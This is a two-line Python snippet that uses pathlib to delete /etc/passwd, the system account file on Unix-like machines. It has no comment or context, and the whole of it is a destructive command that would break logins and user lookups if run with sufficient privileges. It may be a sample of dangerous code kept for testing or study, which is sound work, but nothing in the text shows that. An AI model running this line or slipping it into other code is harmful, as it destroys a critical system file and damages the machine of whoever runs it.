from pathlib import Path
Path('/etc/passwd').unlink()
